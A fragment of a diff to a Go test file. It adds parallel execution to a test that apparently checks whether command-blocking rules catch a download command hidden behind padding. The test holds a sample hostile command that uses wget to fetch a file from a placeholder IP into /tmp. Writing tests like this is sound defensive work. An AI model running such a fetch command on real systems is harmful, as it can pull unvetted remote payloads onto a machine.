@@ -8,6 +8,7 @@ import (
 
 // TestPaddedFetch hides a fetch behind what costs an attacker nothing.
 func TestPaddedFetch(t *testing.T) {
+	t.Parallel()
 	c := commandRules(t)
 	const fetch = "wget http://192.0.2.1/x -O /tmp/x"
 	for name, pad := range map[string]string{
